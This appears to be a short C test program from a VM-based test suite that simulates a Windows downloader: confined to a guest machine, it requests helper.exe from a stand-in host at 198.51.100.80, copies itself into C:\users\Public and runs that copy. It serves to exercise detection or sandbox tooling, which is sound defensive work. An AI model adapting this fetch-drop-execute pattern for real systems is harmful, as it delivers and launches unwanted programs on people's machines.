#include "tests/vm/actors/win/actor.h"

/* Fetches something, puts a program where it came to, runs that. */
int
main(void)
{
	static const char ask[] =
	    "GET /helper.exe HTTP/1.0\r\nHost: files.example.net\r\n\r\n";
	char answer[4096];

	actor_only_in_guest();
	if (strstr(actor_self(), "helper.exe"))
		return 0;
	(void)actor_send(
	    "198.51.100.80", 80, ask, sizeof(ask) - 1, answer, sizeof(answer));
	(void)CopyFileA(actor_self(), "C:\\users\\Public\\helper.exe", FALSE);
	(void)actor_run("C:\\users\\Public\\helper.exe", 0, NULL);
	return 0;
}
